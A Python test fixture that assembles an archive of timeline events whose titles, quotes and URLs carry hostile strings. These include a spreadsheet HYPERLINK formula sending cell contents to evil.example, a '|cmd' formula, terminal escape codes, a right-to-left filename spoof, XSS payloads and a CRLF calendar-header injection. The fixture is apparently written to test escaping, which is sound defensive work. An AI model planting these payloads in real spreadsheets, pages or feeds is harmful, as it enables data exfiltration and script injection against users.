"""Texts that mean harm, and an archive full of them."""

from __future__ import annotations

import copy
from pathlib import Path

from tests.example import TABLES, write_example

#: What a title in a dump may hold.
TEXTS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1|cmd",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "\x1b]0;owned\x07\x1b[31mred\x1b[0m",
    "abc\u202egpj.exe",
    "\u2066isolated\u2069 and \u200emarks",
    "quotes \" and 'single' and “curly”",
    "two\nlines, and a comma; and a semicolon",
    "back\\slash | pipe ` tick ~ tilde",
    "<script>alert(1)</script> & <b>bold</b>",
    "[link](javascript:alert(1)) ![image](x)",
    "{braces} $math$ %comment #hash _under ^hat \\end{document}",
    "BEGIN:VEVENT\r\nATTACH:x",
    "é 日本語 🙂 " + "long " * 60,
    "'apostrophe first",
    "nul\x00byte",
)


def hostile_archive(folder: Path) -> Path:
    """An archive with an event for each text, in title, quote and policy; the address of one is no address."""
    events = []
    for number, text in enumerate(TEXTS):
        event = copy.deepcopy(TABLES["timeline"][0])
        event |= {"event_id": f"event-{number:02}", "title": text, "quote": text, "superseded_ids": ()}
        event |= {"policies": (text.replace(";", ","),), "policy_ids": (f"policy-{number}",)}
        events.append(event)
    events[0]["url"] = "javascript:alert(1)"
    events[1]["url"] = "https://www.example.org/a b\r\nATTENDEE:x"
    articles = [{**TABLES["articles"][0], "title": TEXTS[12]}]
    return write_example(folder, timeline=events, articles=articles)
